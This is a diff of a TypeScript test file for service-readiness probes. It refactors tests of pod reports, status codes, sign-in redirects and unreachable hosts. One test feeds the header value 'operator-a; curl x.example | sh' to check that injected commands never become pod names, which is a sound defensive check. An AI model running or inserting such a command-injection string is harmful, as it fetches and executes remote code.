@@ -2,13 +2,17 @@ import { expect, test } from 'vitest';
 import { forEachApp } from '../../apps/environment/apps.ts';
 import { Unreachable } from '../../fleet/engines/live/unreachable.ts';
 import { findingsIn } from './findings.ts';
-import { ask, askEachSecond, askOnce, type ProbeAnswer, type ProbeClient } from './probes.ts';
+import { ask, askEachSecond, askOnce, type ProbeAnswer, type ProbeClient, type ProbeName } from './probes.ts';
 
 const urls = { ...forEachApp(({ name }) => `https://${name}.example`), auth: 'https://auth.example' };
 const clientOf = (get: (role: string, path: string) => object | Promise<object>): ProbeClient => ({
   target: { urls },
   get: async (role, path) => ({ url: path, status: 200, headers: {}, body: '{}', ...(await get(role, path)) }),
 });
+
+const answerTo = (probe: ProbeName, answer: () => object | Promise<object>) => ask(clientOf(answer), 'operator', probe);
+const unreachable = (code: string) =>
+  new Unreachable('https://operator.example/', { code, message: code }, { timeout: 1, received: undefined });
 
 /** A balancer that gives requests to its pods in turn. */
 function balancer(pods: number): ProbeClient {
@@ -46,31 +50,21 @@ test('rounds go on while a host hangs, and an abort does not wait for it', async
 
 test('the loop ends when a round says so, and with a fault of the harness', async () => {
   const { signal } = new AbortController();
-  const options = { seconds: undefined, signal, onRound: () => true };
-  expect(
-    (
-      await askEachSecond(
-        clientOf(() => ({})),
-        options,
-      )
-    ).length,
-  ).toBeGreaterThan(0);
+  const answering = clientOf(() => ({}));
+  const answers = await askEachSecond(answering, { seconds: undefined, signal, onRound: () => true });
+  expect(answers.length).toBeGreaterThan(0);
   const broken = clientOf(() => Promise.reject(new TypeError('bug')));
   await expect(askEachSecond(broken, { seconds: undefined, signal })).rejects.toThrow('bug');
 });
 
 test('what a pod says of itself in its report counts when a proxy removes the headers', async () => {
-  const client = clientOf(() => ({ body: '{"pod":"operator-a","revision":"2"}' }));
-  expect(await ask(client, 'operator', 'ready')).toMatchObject({ pod: 'operator-a', revision: '2' });
-  expect(await ask(client, 'operator', 'no session')).toMatchObject({ pod: '', revision: '' });
+  const report = () => ({ body: '{"pod":"operator-a","revision":"2"}' });
+  expect(await answerTo('ready', report)).toMatchObject({ pod: 'operator-a', revision: '2' });
+  expect(await answerTo('no session', report)).toMatchObject({ pod: '', revision: '' });
 });
 
 test.each(['null', '[1]', '<html></html>'])('a report that is no object is a fact: %s', async (body) => {
-  const answer = await ask(
-    clientOf(() => ({ body })),
-    'operator',
-    'ready',
-  );
+  const answer = await answerTo('ready', () => ({ body }));
   expect(answer).toMatchObject({ pod: '', revision: '', facts: { body: 'no report' } });
 });
 
@@ -84,8 +78,7 @@ test.each([
   ['ready', { body: '<h1>Welcome</h1>' }, /^operator\.example does not serve operator/],
   ['ready', { body: '{"status":"up"}' }, /^operator\.example does not serve operator/],
 ] as const)('to "%s", %j is not from a pod', async (probe, answer, problem) => {
-  const client = clientOf(() => answer);
-  expect(await ask(client, 'operator', probe)).toMatchObject({
+  expect(await answerTo(probe, () => answer)).toMatchObject({
     isOutside: true,
     problem: expect.stringMatching(problem),
   });
@@ -95,57 +88,36 @@ test.each([
   ['whose header a proxy removes', { body: '{"ok":false}' }],
   ['without a report', { headers: { 'x-served-by': 'operator-a' } }],
 ])('a 503 of a pod %s is from that pod', async (_what, answer) => {
-  const client = clientOf(() => ({ status: 503, ...answer }));
-  expect(await ask(client, 'operator', 'ready')).not.toHaveProperty('isOutside');
+  expect(await answerTo('ready', () => ({ status: 503, ...answer }))).not.toHaveProperty('isOutside');
 });
 
 test.each(['operator-a; curl x.example | sh', 'operator-a\u001b[2J'])(
   'what is no name of a pod (%j) does not become one, because names are printed in commands',
   async (name) => {
-    const client = clientOf(() => ({ headers: { 'x-served-by': name, 'x-revision': name } }));
-    expect(await ask(client, 'operator', 'ready')).toMatchObject({ pod: '', revision: '' });
+    const headers = { 'x-served-by': name, 'x-revision': name };
+    expect(await answerTo('ready', () => ({ headers }))).toMatchObject({ pod: '', revision: '' });
   },
 );
 
-test('a wrong status and a host without an answer are problems', async () => {
-  expect(
-    (
-      await ask(
-        clientOf(() => ({})),
-        'operator',
-        'no session',
-      )
-    ).problem,
-  ).toBe('operator answers 200 to GET /api/me without a session, not 401.');
-  const late = new Unreachable('https://operator.example/', new Error('x'), { timeout: 1, received: undefined });
-  const answer = await ask(
-    clientOf(() => Promise.reject(late)),
-    'operator',
-    'ready',
-  );
-  expect(answer).toMatchObject({ status: 0, problem: late.message });
+test('a wrong status is a problem', async () => {
+  const { problem } = await answerTo('no session', () => ({}));
+  expect(problem).toBe('operator answers 200 to GET /api/me without a session, not 401.');
 });
 
 test.each([
   ['ENOTFOUND', true],
   ['EAI_AGAIN', undefined],
-])('whether %s is final for now: %s', async (code, isFinal) => {
-  const error = new Unreachable('https://a.example/', { code, message: code }, { timeout: 1, received: undefined });
-  expect(
-    (
-      await ask(
-        clientOf(() => Promise.reject(error)),
-        'operator',
-        'ready',
-      )
-    ).isFinal,
-  ).toBe(isFinal);
+])('a host without an answer is a problem, and whether %s is final for now: %s', async (code, isFinal) => {
+  const error = unreachable(code);
+  const answer = await answerTo('ready', () => Promise.reject(error));
+  expect(answer).toMatchObject({ status: 0, problem: error.message });
+  expect(answer.isFinal).toBe(isFinal);
 });
 
 test('a sign-in that leads to another host is a problem of the answer, and a finding', async () => {
   const location = 'https://login.example/application/o/authorize/?client_id=operator';
-  const client = clientOf(() => ({ status: 302, headers: { location, 'x-served-by': 'operator-a' } }));
-  const answer = await ask(client, 'operator', 'sign-in');
+  const headers = { location, 'x-served-by': 'operator-a' };
+  const answer = await answerTo('sign-in', () => ({ status: 302, headers }));
   const said =
     'Signing in to operator leads to https://login.example/application/o/authorize/, not to https://auth.example/';
   expect(answer).toMatchObject({ problem: expect.stringContaining(said) });
